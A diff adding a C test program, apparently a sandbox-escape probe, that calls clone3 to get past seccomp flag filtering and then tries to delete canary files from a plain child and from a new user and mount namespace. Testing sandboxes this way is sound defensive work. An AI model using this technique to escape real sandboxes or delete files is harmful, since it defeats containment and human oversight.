@@ -1,0 +1,58 @@
+// attack: kernel: clone3 (flags in memory, where a seccomp filter cannot look): a plain child, then one with CLONE_NEWUSER|CLONE_NEWNS, each unlinking a canary file
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/sched.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+// The canary's regular files (top level), as names relative to it: the attack does not assume them.
+static int canary_files(const char *canary, char names[][256], int max) {
+    DIR *d = opendir(canary);
+    int n = 0;
+    struct dirent *e;
+    if (!d) { perror(canary); return 0; }
+    while (n < max && (e = readdir(d)))
+        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
+    closedir(d);
+    return n;
+}
+
+static void attempt(const char *label, uint64_t flags, const char *target) {
+    struct clone_args args;
+    memset(&args, 0, sizeof args);
+    args.flags = flags;
+    args.exit_signal = SIGCHLD;
+    fflush(stdout);
+    errno = 0;
+    long pid = syscall(SYS_clone3, &args, sizeof args);
+    if (pid == 0) {
+        long r = syscall(SYS_unlinkat, AT_FDCWD, target, 0);
+        printf("  [%s child] unlinkat(%s) -> %ld (%s)\n", label, target, r, r < 0 ? strerror(errno) : "success");
+        fflush(stdout);
+        _exit(0);
+    }
+    printf("clone3(%s) -> %ld (%s)\n", label, pid, pid < 0 ? strerror(errno) : "child created");
+    fflush(stdout);
+    if (pid > 0) waitpid((pid_t)pid, NULL, 0);
+}
+
+int main(void) {
+    const char *canary = getenv("CANARY");
+    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
+    char f[2][256], a[4096], b[4096];
+    if (canary_files(canary, f, 2) < 2) { fprintf(stderr, "fewer than 2 canary files\n"); return 2; }
+    snprintf(a, sizeof a, "%s/%s", canary, f[0]);
+    snprintf(b, sizeof b, "%s/%s", canary, f[1]);
+    attempt("flags=0", 0, a);
+    attempt("CLONE_NEWUSER|CLONE_NEWNS", CLONE_NEWUSER | CLONE_NEWNS, b);
+    return 0;
+}
